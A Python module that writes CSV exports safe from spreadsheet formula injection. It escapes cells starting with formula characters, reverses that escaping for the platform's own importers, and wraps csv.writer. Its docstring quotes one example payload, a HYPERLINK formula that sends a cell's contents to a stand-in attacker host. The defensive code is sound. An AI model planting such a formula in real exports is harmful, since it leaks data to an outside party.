"""Formula-safe CSV: the one way the platform writes a CSV that a person may open.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage
return, line feed or NUL in front of one) as a formula, so a statement or a name such as
``=HYPERLINK("https://evil.example/?"&A1)`` would run when an officer opens the export. Following
OWASP's CSV injection guidance, :func:`cell` puts a single apostrophe in front of such text; the
spreadsheet then shows the text as it was typed. Numbers (``int``, ``float``, ``Decimal``) and
text that is only a plain number (``-3``, ``-0.5``) are left alone: they cannot be formulas.

:func:`restore` undoes :func:`cell` exactly, for our own importers reading a file we wrote
(the Polis export round-trips through the Polis import). Text that really starts with
apostrophes before a formula character gets one more apostrophe on the way out, so the pair
is a bijection.

Pure Python, no Django: the engine-only CLI commands use it too. Engines (``*/engine/``) may
not import it; their CSV writers take a ``cell`` argument that the platform fills with
:func:`cell`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

# OWASP: = + - @ tab carriage return; ASVS 5 adds NUL; a line feed is another cell start.
# The full-width forms are read as formulas by some spreadsheets in East Asian locales.
TRIGGERS = frozenset("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def _risky(text: str) -> bool:
    """True when the text, with any apostrophes in front removed, starts like a formula."""
    rest = text.lstrip("'")
    return bool(rest) and rest[0] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(rest)


def cell(value: Any) -> Any:
    """The value as a spreadsheet-safe CSV cell (text neutralised, numbers untouched)."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    return "'" + text if _risky(text) else text


def restore(text: str) -> str:
    """The text :func:`cell` was given (for importers reading a file the platform wrote)."""
    if text.startswith("'") and _risky(text[1:]):
        return text[1:]
    return text


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`cell`."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer: _Writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Any, **kwargs: Any) -> SafeWriter:
    """Like :func:`csv.writer`, with every text cell neutralised."""
    return SafeWriter(stream, **kwargs)
